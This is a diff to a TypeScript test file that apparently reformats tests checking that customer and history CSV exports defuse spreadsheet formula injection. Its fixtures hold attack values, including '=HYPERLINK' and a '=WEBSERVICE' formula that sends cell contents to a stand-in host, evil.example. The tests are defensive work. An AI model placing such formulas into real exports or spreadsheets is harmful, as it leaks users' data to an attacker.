@@ -56,11 +56,20 @@ describe('exports with the attack values', () => {
   it('customers: tags `vip;=1+1` and a forged note go out quoted and defused, and import back as they were', async () => {
     const db = freshDb();
     const customers: CustomerInput[] = [
-      { handle: 'evil', name: 'Evil;=HYPERLINK("https://evil.example")', phone: '+82 10-0000-0000', tags: ['vip', '=1+1'], note: FORGED_REPLY, attributes: { '=cmd': 'a;@b', memo: "'=kept" } },
+      {
+        handle: 'evil',
+        name: 'Evil;=HYPERLINK("https://evil.example")',
+        phone: '+82 10-0000-0000',
+        tags: ['vip', '=1+1'],
+        note: FORGED_REPLY,
+        attributes: { '=cmd': 'a;@b', memo: "'=kept" },
+      },
       { handle: 'minji_kim', name: '김민지', tags: ['vip', '유심'], attributes: {} },
     ];
     await customersRepo(db).upsertMany(customers);
-    const text = new TextDecoder().decode(await (await exportCustomersCsv({ repo: backupRepo(db) })).blob.arrayBuffer());
+    const text = new TextDecoder().decode(
+      await (await exportCustomersCsv({ repo: backupRepo(db) })).blob.arrayBuffer(),
+    );
     expect(text).toContain(`"vip;'=1+1"`);
     expect(text).toContain(`"Thanks for waiting!;'=WEBSERVICE(""https://evil.example/?leak=""&A2)"`);
     expect(piecesSeenWithoutQuotes(text).filter((piece) => FORMULA_START.test(piece))).toEqual([]);
@@ -69,16 +78,27 @@ describe('exports with the attack values', () => {
     const { rows, problems } = parseCustomersCsv(text);
     expect(problems).toEqual([]);
     expect(rows).toEqual([
-      { handle: 'evil', name: 'Evil;=HYPERLINK("https://evil.example")', phone: '+82 10-0000-0000', tags: ['vip', '=1+1'], note: FORGED_REPLY, attributes: { '=cmd': 'a;@b', memo: "'=kept" } },
+      {
+        handle: 'evil',
+        name: 'Evil;=HYPERLINK("https://evil.example")',
+        phone: '+82 10-0000-0000',
+        tags: ['vip', '=1+1'],
+        note: FORGED_REPLY,
+        attributes: { '=cmd': 'a;@b', memo: "'=kept" },
+      },
       { handle: 'minji_kim', name: '김민지', tags: ['vip', '유심'] },
     ]);
   });
 
   it('history: a forged reply text with `;=WEBSERVICE(…)` goes out defused', async () => {
     const db = freshDb();
-    await eventsRepo(db).bulkAdd([{ customerHandle: 'evil', kind: 'reply-sent', at: '2026-11-29T01:00:00.000Z', text: FORGED_REPLY }]);
+    await eventsRepo(db).bulkAdd([
+      { customerHandle: 'evil', kind: 'reply-sent', at: '2026-11-29T01:00:00.000Z', text: FORGED_REPLY },
+    ]);
     const text = new TextDecoder().decode(await (await exportEventsCsv({ repo: backupRepo(db) })).blob.arrayBuffer());
-    expect(text.split('\r\n')[1]).toBe(`"evil","2026-11-29T01:00:00.000Z","reply-sent","","","","","Thanks for waiting!;'=WEBSERVICE(""https://evil.example/?leak=""&A2)"`);
+    expect(text.split('\r\n')[1]).toBe(
+      `"evil","2026-11-29T01:00:00.000Z","reply-sent","","","","","Thanks for waiting!;'=WEBSERVICE(""https://evil.example/?leak=""&A2)"`,
+    );
     expect(piecesSeenWithoutQuotes(text).filter((piece) => FORMULA_START.test(piece))).toEqual([]);
   });
 });
